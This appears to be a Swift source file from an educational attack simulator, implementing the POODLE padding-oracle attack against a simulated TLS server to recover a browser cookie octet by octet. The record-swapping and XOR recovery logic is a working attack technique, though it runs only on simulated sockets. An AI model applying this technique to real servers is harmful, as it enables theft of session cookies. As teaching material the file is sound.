import Simulator
import TCPSim
import TLSSim
import Trace

/// A server that reads the length octet of the padding, but does not check the octets before it, gives a cookie away (Möller, Duong and
/// Kotowicz 2014).
enum Poodle: Exhibit {
    static let card = Card(
        "poodle", in: .record, from: .inPath, to: .read, variants: ["cookie", "short"], unit: .records, year: 2014,
        cites: [.rfc(5246, "6.2.3.2"), .rfc(7568, "3")], cves: ["CVE-2014-3566", "CVE-2014-8730"],
        words: PoodleCard.self)

    /// How many records she sends for one octet before she gives up. With the probability e^-12 all of them fail without the rule.
    private static let patience = 12 * 256

    static func perform(_ show: Performance) throws -> Outcome {
        let stage = show.stage()
        let digits = show.variant == "short" ? 1 : 8
        let browser = try Browser(
            show, on: stage, digits: digits, server: { $0.recordRules.checksEveryPaddingOctet = show.extent })
        let attacker = show.attacker(on: stage)
        browser.begin(attacker)
        var swap = RecordSwap(attacker, browser)
        var outcome = Outcome()
        outcome.say(PoodleNote.aligned)
        outcome.say(PoodleNote.swaps)
        var cookie: [UInt8] = []
        var first: RecordSwap.Answer?
        while cookie.count < digits {
            let before = swap.count
            guard let found = next(cookie.count, of: digits, &swap) else { break }
            cookie.append(found.octet)
            if first == nil {
                first = found.answer
                outcome.say(
                    PoodleNote.accepted(after: swap.count - before, octet: found.octet),
                    frames: [found.answer.frame, found.answer.answer],
                    [
                        .init("block before the last", found.beforeLast),
                        .init("block before the copied one", found.beforeCopied),
                    ])
            }
        }
        outcome.tries = swap.count
        outcome.reached = cookie.count == digits
        outcome.loot = outcome.reached ? [("cookie", cookie)] : []
        outcome.truth = [("cookie", browser.cookie)]
        outcome.theory = .sum(
            of: Array(repeating: .geometric(1.0 / 256), count: digits),
            formula: Words(
                english: "Σ geometric(1/256) over the L octets of the cookie",
                chinese: "对 cookie 的 L 个字节求和的 Σ geometric(1/256)"),
            parameters: [("L", Double(digits))], words: .octets)
        outcome.evidence = [("server", .socket(Socket(.server, 443))), ("client", .socket(IPv4Address.client))]
        outcome.connections = [0, 1, first?.connection ?? 2, browser.connections - 1]
        if outcome.reached {
            outcome.say(PoodleNote.read(String(decoding: cookie, as: UTF8.self)), [.init("cookie", cookie)])
        } else {
            outcome.say(PoodleNote.refused(swap.count), cite: .rfc(5246, "6.2.3.2"))
        }
        outcome.reproduce = [
            "tshark -r FILE -Y 'frame.interface_name==\"forged\"' -T fields -e tcp.stream | wc -l",
            "tshark -r FILE -Y 'ip.src==10.0.0.2 && tls.record.content_type==23' -T fields -e tcp.stream",
        ]
        return outcome
    }

    private typealias FoundOctet = (octet: UInt8, answer: RecordSwap.Answer, beforeLast: [UInt8], beforeCopied: [UInt8])

    /// Finds an octet of the cookie: she puts a copy of its block at the end of records until the server takes the copy for padding.
    ///
    /// - Parameters:
    ///   - place: the place of the octet in the cookie, counted from 0.
    ///   - digits: the length of the cookie.
    /// - Returns: nil if the server has refused as many records as ``patience`` says.
    private static func next(_ place: Int, of digits: Int, _ swap: inout RecordSwap) -> FoundOctet? {
        let size = BlockRecord.size
        // The octet is the last of a block. A whole block of padding follows the request and its MAC of 20 octets.
        let path = BlockRecord.filler(after: Browser.head(path: []).count + place + 1)
        let block = (Browser.head(path: path).count + place) / size
        let body = BlockRecord.filler(
            after: Browser.head(path: path).count + digits + Browser.tail(body: []).count + 20)
        for _ in 0..<patience {
            var seen: (last: [UInt8], copied: [UInt8]) = ([], [])
            let answer = swap.ask(path: path, body: body) { octets in
                let record = BlockRecord(octets)
                seen = (record.block(record.count - 2), record.block(block - 1))
                return record.ending(in: [record.block(block)])
            }
            guard let answer, !answer.isAlert, let last = seen.last.last, let copied = seen.copied.last else {
                continue
            }
            return (UInt8(size - 1) ^ last ^ copied, answer, seen.last, seen.copied)
        }
        return nil
    }
}
